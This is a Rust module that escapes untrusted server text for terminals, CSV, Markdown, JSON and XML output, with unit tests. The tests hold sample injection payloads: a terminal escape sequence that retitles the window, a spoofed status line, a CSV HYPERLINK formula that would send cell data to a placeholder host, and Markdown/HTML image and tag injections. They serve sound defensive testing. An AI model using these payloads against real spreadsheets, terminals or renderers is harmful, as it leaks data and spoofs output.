//! Text from outside (a server's error message, a model id, a params file's value) made
//! inert for the place it is written: one function per destination, used by every writer.
//!
//! - [`terminal`]: the console, stderr and log lines. Control characters (C0, DEL, C1)
//!   and the bidirectional overrides are written as visible escapes (`\x1b`, `\n`,
//!   `\u{202e}`), so a server can neither move the cursor, retitle or clear the terminal,
//!   nor start a line of its own that looks like ours.
//! - [`csv_cell`]: a CSV text cell. A cell a spreadsheet would read as a formula (first
//!   character `=`, `+`, `-`, `@`, tab or CR) gets a leading `'`, OWASP's advice.
//! - [`markdown`]: a Markdown table cell or line: every character Markdown or the HTML
//!   inside it gives a meaning is backslash-escaped, control characters as [`terminal`].
//! - [`json_chars`]: a whole JSON document: DEL, C1, the bidirectional and invisible
//!   characters, which JSON encoders leave raw, as `\u` escapes (the same document once
//!   parsed).
//! - [`xml_chars`]: a whole XML, SVG or HTML document: the characters XML 1.0 forbids
//!   (most of C0), and those that act rather than show, as visible escapes, so the
//!   document stays well-formed and shows what it holds. The entities
//!   are escaped by the libraries that write these documents (minijinja's `.html`
//!   templates, plotters, quick-xml); the binary's report writer (`write_atomic`)
//!   applies this to every such document it writes.
//!
//! Here because workers, the coordinator and the binary all write server text; the crate
//! is the lowest all three share.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether `c` would do something rather than show: C0 controls, DEL, C1 controls, the
/// Unicode bidirectional marks, overrides and isolates (which reorder what a reader
/// sees), the zero-width characters and the byte-order mark (which hide text), and the
/// line and paragraph separators (which some viewers break lines at).
fn acts(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{2069}'
                | '\u{feff}'
        )
}

/// `c` as a visible escape: `\n`, `\r`, `\t`, `\x1b`, `\u{9b}`.
fn push_escape(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c if (c as u32) < 0x80 => {
            let _ = write!(out, "\\x{:02x}", c as u32);
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
    }
}

/// `text` with every character `escaped` picks written as a visible escape.
fn escape_where(text: &str, escaped: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.chars().any(&escaped) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if escaped(c) {
            push_escape(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Text for a terminal or a log line: every control character escaped (newlines
/// included: one line of server text stays one line).
pub fn terminal(text: &str) -> Cow<'_, str> {
    escape_where(text, acts)
}

/// Like [`terminal`], but keeps line breaks and tabs (`\n`, `\t`): for a block of
/// several lines the program wrote itself around outside text (a table, a message).
/// Outside text that must stay on one line goes through [`terminal`] first.
pub fn terminal_lines(text: &str) -> Cow<'_, str> {
    escape_where(text, |c| !matches!(c, '\n' | '\t') && acts(c))
}

/// A CSV text cell that no spreadsheet evaluates: a leading `'` before `=`, `+`, `-`,
/// `@`, tab or CR; and, as CSV files are read in terminals too, control characters
/// escaped as for [`terminal`]. Only for text; numbers are written as numbers.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    let formula = matches!(
        text.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    );
    match (formula, terminal(text)) {
        (false, shown) => shown,
        (true, shown) => Cow::Owned(format!("'{shown}")),
    }
}

/// Text for a Markdown table cell or line: Markdown's and HTML's characters
/// backslash-escaped (no link, image, emphasis, heading, raw HTML or cell break is
/// possible), control characters (line breaks included) escaped as for [`terminal`].
pub fn markdown(text: &str) -> Cow<'_, str> {
    // What can start a construct inside a line (a cell, a list item's text): emphasis,
    // code, links and images (`[`, `]`, `!`), raw HTML and entities, cell breaks. Line
    // starts (headings, lists) cannot occur: line breaks are escaped.
    const SPECIAL: &str = "\\`*_[]<>!|~&";
    if !text.chars().any(|c| acts(c) || SPECIAL.contains(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if acts(c) {
            // `\x1b` would read as an escaped `x`: the backslash itself is escaped.
            out.push('\\');
            push_escape(&mut out, c);
        } else if c == '<' {
            out.push_str("&lt;");
        } else if c == '>' {
            out.push_str("&gt;");
        } else if c == '&' {
            out.push_str("&amp;");
        } else if SPECIAL.contains(c) {
            out.push('\\');
            out.push(c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Text with the characters XML 1.0 forbids (and DEL, C1) made visible escapes, nothing
/// else changed: for a writer that escapes the entities itself (an SVG library).
pub fn xml_chars(text: &str) -> Cow<'_, str> {
    escape_where(text, forbidden_in_xml)
}

/// A JSON document with DEL, C1 and the bidirectional overrides as `\uXXXX` escapes
/// (JSON encoders escape only C0): the same document once parsed, and nothing raw for a
/// terminal that shows the file. These characters stand only inside JSON strings.
pub fn json_chars(text: &str) -> Cow<'_, str> {
    let raw = |c: char| c != '\t' && c != '\n' && c != '\r' && acts(c);
    if !text.chars().any(raw) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if raw(c) {
            let _ = write!(out, "\\u{:04x}", c as u32);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// What XML 1.0 forbids (C0 but tab, LF and CR; U+FFFE and U+FFFF), and what would act
/// rather than show in a viewer (DEL, C1, the bidirectional and invisible characters).
fn forbidden_in_xml(c: char) -> bool {
    (acts(c) && !matches!(c, '\t' | '\n' | '\r')) || matches!(c, '\u{fffe}' | '\u{ffff}')
}

/// `text` cut to at most `max` bytes (on a character boundary), with how much was cut
/// said at its end: `… [cut: 20971520 bytes in all]`. For text from outside kept in a
/// record or a report, whose size the server must not choose.
pub fn bounded(text: &str, max: usize) -> Cow<'_, str> {
    if text.len() <= max {
        return Cow::Borrowed(text);
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    Cow::Owned(format!(
        "{}… [cut: {} bytes in all]",
        &text[..end],
        text.len()
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_text_shows_every_control_character_and_keeps_the_rest() {
        assert_eq!(terminal("plain ü 中"), "plain ü 中");
        assert_eq!(
            terminal("a\x1b]0;pwned\x07b\r\nall SLOs pass\u{9b}2J\u{202e}x"),
            "a\\x1b]0;pwned\\x07b\\r\\nall SLOs pass\\u{9b}2J\\u{202e}x"
        );
        assert_eq!(
            terminal_lines("one\n\ttwo\x1b[2J\r"),
            "one\n\ttwo\\x1b[2J\\r"
        );
    }

    #[test]
    fn csv_cells_that_look_like_formulas_become_text() {
        for f in [
            "=HYPERLINK(\"http://x/?q=\"&A1,\"click\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(csv_cell(f), format!("'{}", terminal(f)), "{f}");
        }
        assert_eq!(csv_cell("model-1"), "model-1");
        assert_eq!(csv_cell(""), "");
        assert_eq!(csv_cell("a\x1b[2Jb"), "a\\x1b[2Jb");
    }

    #[test]
    fn markdown_text_has_no_link_image_or_html() {
        let m = markdown("![x](http://e/i.png) [a](b) <img src=x> | *b* \x1b");
        assert!(
            m.contains("\\](") && !m.replace("\\](", "").contains("]("),
            "{m}"
        );
        assert!(!m.contains('<'), "{m}");
        assert!(!m.contains('\x1b'), "{m}");
        assert!(m.contains("\\|"), "{m}");
        assert_eq!(markdown("plain words 12"), "plain words 12");
    }

    #[test]
    fn xml_documents_lose_only_what_xml_forbids() {
        assert_eq!(
            xml_chars("<a b=\"&amp;\">\t\x1b\x00\u{fffe}\u{9b}\n</a>"),
            "<a b=\"&amp;\">\t\\x1b\\x00\\u{fffe}\\u{9b}\n</a>"
        );
    }

    #[test]
    fn json_documents_read_back_the_same_with_nothing_raw() {
        let value = serde_json::json!({"model": "mod\u{202e}el\u{2066}x\u{85}y\u{7f}\u{1b}"});
        let text = serde_json::to_string(&value).expect("json");
        let inert = json_chars(&text);
        assert!(
            !inert.chars().any(|c| c.is_control() || c == '\u{202e}'),
            "{inert}"
        );
        let back: serde_json::Value = serde_json::from_str(&inert).expect("parses");
        assert_eq!(back, value);
    }

    #[test]
    fn bounded_text_says_how_much_was_cut() {
        assert_eq!(bounded("short", 10), "short");
        let long = "é".repeat(10);
        let cut = bounded(&long, 5);
        assert!(cut.starts_with("éé…"), "{cut}");
        assert!(cut.ends_with("[cut: 20 bytes in all]"), "{cut}");
    }
}
